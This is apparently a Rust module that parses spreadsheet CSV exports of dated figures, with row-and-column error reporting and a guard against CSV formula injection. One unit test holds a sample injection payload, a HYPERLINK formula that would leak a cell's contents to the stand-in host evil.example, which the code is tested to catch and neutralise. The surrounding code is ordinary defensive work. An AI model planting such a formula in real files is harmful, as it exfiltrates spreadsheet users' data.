//! A measure's figures: a CSV file as a spreadsheet exports it (`date,value` and optional `note`)
//! → [`Figure`]s, every problem located by row and column.
//!
//! Spreadsheets differ in small ways that should not trouble anyone: the header may be in any
//! case, cells may be quoted, a number may carry thousands separators (`1,000`) and the file may
//! start with a byte-order mark. What cannot be read (a date in another order, a word where a number
//! should be, a row for a date already given) is an error with the row and the column.

use std::path::Path;

use crate::error::{Diagnostic, Lines, Location};
use crate::source::dates::{parse_dated_text, Dated};

/// One figure of a measure.
#[derive(Debug, Clone, PartialEq)]
pub struct Figure {
    /// The day or month it is for.
    pub date: Dated,
    /// The figure.
    pub value: f64,
    /// What should be read beside it ("Data for Q1 is provisional").
    pub note: Option<String>,
}

/// The columns a figures file has, in any order: `date` and `value` are needed.
const COLUMNS: [&str; 3] = ["date", "value", "note"];

/// Reads a figures file (`path` is how it is named in messages): its figures and warnings, or
/// every problem it has.
pub fn read_csv(
    path: &Path,
    text: &str,
) -> Result<(Vec<Figure>, Vec<Diagnostic>), Vec<Diagnostic>> {
    let mut errors = Vec::new();
    let mut reader = csv::ReaderBuilder::new()
        .flexible(true)
        .trim(csv::Trim::All)
        .from_reader(text.as_bytes());
    let headers: Vec<String> = match reader.headers() {
        Ok(h) => h.iter().map(|c| c.trim().to_lowercase()).collect(),
        Err(e) => return Err(vec![csv_error(path, &Lines::new(text), &e)]),
    };
    let column = |name: &str| headers.iter().position(|h| h == name);
    for (i, name) in headers.iter().enumerate() {
        // Spreadsheets often end the first row with a comma: an empty header is no column.
        if !name.is_empty() && !COLUMNS.contains(&name.as_str()) {
            errors.push(
                Diagnostic::error(
                    path,
                    format!(
                        "column {} is headed \"{name}\", which sendsite does not know",
                        i + 1
                    ),
                )
                .at(Location::at(text, 0))
                .hint("the first row names the columns: date, value and, if you like, note"),
            );
        }
    }
    let (Some(date_at), Some(value_at)) = (column("date"), column("value")) else {
        errors.push(
            Diagnostic::error(
                path,
                "the first row must name the columns `date` and `value`",
            )
            .at(Location::at(text, 0))
            .hint("start the file with the line: date,value,note"),
        );
        return Err(errors);
    };
    let note_at = column("note");
    let lines = Lines::new(text);
    let mut figures = Vec::new();
    for record in reader.records() {
        let record = match record {
            Ok(r) => r,
            Err(e) => {
                errors.push(csv_error(path, &lines, &e));
                continue;
            }
        };
        if record.iter().all(str::is_empty) {
            continue;
        }
        let start = record.position().map_or(0, |p| p.byte() as usize);
        let row = lines.at(start);
        let cell = |at: usize| record.get(at).unwrap_or("");
        let located = |message: String, hint: &str, col: usize| {
            let mut d = Diagnostic::error(
                path,
                format!(
                    "row {}, column {} ({}): {message}",
                    row.line,
                    col + 1,
                    headers[col]
                ),
            )
            .hint(hint);
            d.location = Some(row.clone());
            d
        };
        let date = parse_dated_text(cell(date_at)).map_err(|(m, h)| located(m, &h, date_at));
        let value = parse_number(cell(value_at))
            .ok_or_else(|| {
                let message = match cell(value_at) {
                    "" => "there is no figure".to_string(),
                    w => format!("`{w}` is not a number"),
                };
                let hint = "write the figure alone, e.g. 41.5: the unit is the measure's `unit`";
                (message, hint.to_string())
            })
            .and_then(check_figure)
            .map_err(|(m, h)| located(m, &h, value_at));
        match (date, value) {
            (Ok(date), Ok(value)) => figures.push((
                Figure {
                    date,
                    value,
                    note: note_at
                        .map(cell)
                        .filter(|n| !n.is_empty())
                        .map(str::to_string),
                },
                row,
            )),
            (date, value) => errors.extend(date.err().into_iter().chain(value.err())),
        }
    }
    if figures.is_empty() && errors.is_empty() {
        errors.push(
            Diagnostic::error(path, "this file has no figures")
                .hint("add a row for each figure under the header, e.g. 2024-03,41.5"),
        );
    }
    let mut warnings = Vec::new();
    let figures = sorted(path, figures, &mut errors, &mut warnings);
    match errors.is_empty() {
        true => Ok((figures, warnings)),
        false => Err(errors),
    }
}

/// The figures sorted by date (a file may list them in any order); a second figure for one date is
/// an error at its row, a note a spreadsheet would run as a formula a warning.
pub fn sorted(
    path: &Path,
    mut figures: Vec<(Figure, Location)>,
    errors: &mut Vec<Diagnostic>,
    warnings: &mut Vec<Diagnostic>,
) -> Vec<Figure> {
    for (figure, location) in &figures {
        if figure.note.as_deref().is_some_and(formula_like) {
            warnings.push(
                Diagnostic::warning(path, "this note starts like a spreadsheet formula (with =, +, -, @ or a tab), which a spreadsheet opening the published figures could run")
                    .at(location.clone())
                    .hint("the published file puts a ' before it so that it shows as text; start the note with a word if that is not what you meant"),
            );
        }
    }
    figures.sort_by_key(|f| (f.0.date.first, f.1.line));
    // `2024-03` and `2024-03-01` are one place on the chart: one of them is a mistake.
    for pair in figures.windows(2) {
        if pair[0].0.date.first == pair[1].0.date.first {
            errors.push(
                Diagnostic::error(
                    path,
                    format!("there are two figures for {}", pair[1].0.date.iso()),
                )
                .at(pair[1].1.clone())
                .hint(format!(
                    "line {} has one already: keep one figure per date",
                    pair[0].1.line
                )),
            );
        }
    }
    figures.into_iter().map(|(f, _)| f).collect()
}

/// The largest figure or target, either way from zero, that a chart can draw and a page can
/// show: far beyond any count a council keeps (a budget in pence is under 10^13), and far from
/// where floating point loses whole numbers (2^53, about 9 x 10^15).
pub const LARGEST_FIGURE: f64 = 1e15;

/// The one rule every figure and target passes: a finite number no larger than
/// [`LARGEST_FIGURE`] either way. Gives the message and hint when it is not.
pub fn check_figure(value: f64) -> Result<f64, (String, String)> {
    if !value.is_finite() {
        return Err((
            "this is not a number".into(),
            "write the figure, e.g. 41.5".into(),
        ));
    }
    if value.abs() > LARGEST_FIGURE {
        return Err((
            format!("{value:e} is too large a figure to show or chart"),
            "a figure can be at most 1,000,000,000,000,000 either way from zero: check for a typing mistake, or count in a larger unit (thousands, millions)".into(),
        ));
    }
    Ok(value)
}

/// Whether a cell's text would be run as a formula by a spreadsheet that opens it: it starts
/// with `=`, `+`, `-` (unless it is a number), `@`, a tab or a carriage return (OWASP's advice
/// on CSV injection). The published figures put a `'` before such a cell ([`as_cell`]).
pub fn formula_like(text: &str) -> bool {
    let number = text.parse::<f64>().is_ok();
    text.starts_with(['=', '+', '@', '\t', '\r']) || (text.starts_with('-') && !number)
}

/// `text` as a cell of a published CSV file: as it is, or after a `'` if a spreadsheet would run
/// it as a formula.
pub fn as_cell(text: &str) -> String {
    match formula_like(text) {
        true => format!("'{text}"),
        false => text.to_string(),
    }
}

/// A figure as a spreadsheet writes it: `41.5`, `-3`, `1,000`, `1,234.5`.
fn parse_number(text: &str) -> Option<f64> {
    let plain = match text.contains(',') {
        true => {
            let (whole, fraction) = text.split_once('.').unwrap_or((text, ""));
            let groups: Vec<&str> = whole.trim_start_matches('-').split(',').collect();
            let grouped = groups[0].len() <= 3
                && !groups[0].is_empty()
                && groups[1..].iter().all(|g| g.len() == 3);
            if !grouped {
                return None;
            }
            format!("{}.{fraction}", whole.replace(',', ""))
        }
        false => text.to_string(),
    };
    let number: f64 = plain.trim_end_matches('.').parse().ok()?;
    let digits = plain
        .chars()
        .all(|c| c.is_ascii_digit() || c == '.' || c == '-');
    (number.is_finite() && digits).then_some(number)
}

fn csv_error(path: &Path, lines: &Lines, error: &csv::Error) -> Diagnostic {
    let location = error.position().map(|p| lines.at(p.byte() as usize));
    let mut d = Diagnostic::error(path, format!("this CSV file cannot be read: {error}"))
        .hint("export it again from the spreadsheet as CSV (comma separated, UTF-8)");
    d.location = location;
    d
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_spreadsheet_export_is_read_and_sorted() {
        let text =
            "Date,Value,Note\n2024-05,\"1,041.5\",provisional\n2024-03-31,41.5,\n\n2024-04,-3,\n";
        let (f, warnings) = read_csv(Path::new("content/measures/m.csv"), text).unwrap();
        assert!(warnings.is_empty());
        let dates: Vec<String> = f.iter().map(|f| f.date.iso()).collect();
        assert_eq!(dates, ["2024-03-31", "2024-04", "2024-05"]);
        assert_eq!(f[2].value, 1041.5);
        assert_eq!(f[1].value, -3.0);
        assert_eq!(f[2].note.as_deref(), Some("provisional"));
    }

    #[test]
    fn bad_rows_are_located_by_row_and_column() {
        let text = "date,value\n2024-03,41.5\n31/03/2024,12\n2024-05,lots\n2024-03,40\n";
        let errors = read_csv(Path::new("m.csv"), text).unwrap_err();
        let messages: Vec<String> = errors
            .iter()
            .map(|e| format!("{}: {}", e.location.as_ref().unwrap().line, e.message))
            .collect();
        assert_eq!(
            messages,
            [
                "3: row 3, column 1 (date): `31/03/2024` is not a date sendsite can read",
                "4: row 4, column 2 (value): `lots` is not a number",
                "5: there are two figures for 2024-03",
            ]
        );
        assert!(errors[0].hint.as_deref().unwrap().contains("2024-03-31"));
    }

    #[test]
    fn regression_a_figure_too_large_to_chart_is_an_error_at_its_cell() {
        let huge = "9".repeat(308);
        let text = format!(
            "date,value\n2024-03,1\n2024-04,{huge}\n2024-05,-1000000000000001\n2024-06,{huge}9\n"
        );
        let errors = read_csv(Path::new("m.csv"), &text).unwrap_err();
        let found: Vec<(usize, bool)> = errors
            .iter()
            .map(|e| {
                let line = e.location.as_ref().unwrap().line;
                (line, e.message.contains("column 2 (value)"))
            })
            .collect();
        assert_eq!(found, [(3, true), (4, true), (5, true)]);
        assert!(
            errors[0].message.contains("too large"),
            "{}",
            errors[0].message
        );
        assert_eq!(check_figure(1e15), Ok(1e15));
    }

    #[test]
    fn regression_a_note_that_is_a_formula_is_warned_of_and_published_as_text() {
        let text = "date,value,note\n2024-03,1,\"=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")\"\n2024-04,2,@SUM(A1)\n2024-05,3,+1+1\n2024-06,4,-12\n2024-07,5,- see above\n2024-08,6,fine\n";
        let (figures, warnings) = read_csv(Path::new("m.csv"), text).unwrap();
        let lines: Vec<usize> = warnings
            .iter()
            .map(|w| w.location.as_ref().unwrap().line)
            .collect();
        assert_eq!(lines, [2, 3, 4, 6]);
        let cells: Vec<String> = figures
            .iter()
            .map(|f| as_cell(f.note.as_deref().unwrap()))
            .collect();
        assert_eq!(cells[1], "'@SUM(A1)");
        assert_eq!(cells[2], "'+1+1");
        assert_eq!(cells[3], "-12");
        assert_eq!(cells[5], "fine");
        assert!(cells[0].starts_with("'=HYPERLINK("));
    }

    #[test]
    fn numbers_are_read_strictly() {
        for (text, want) in [
            ("41.5", Some(41.5)),
            ("1,000", Some(1000.0)),
            ("12,00", None),
            ("1e9", None),
            ("NaN", None),
            ("41.5%", None),
            ("", None),
        ] {
            assert_eq!(parse_number(text), want, "{text}");
        }
    }
}
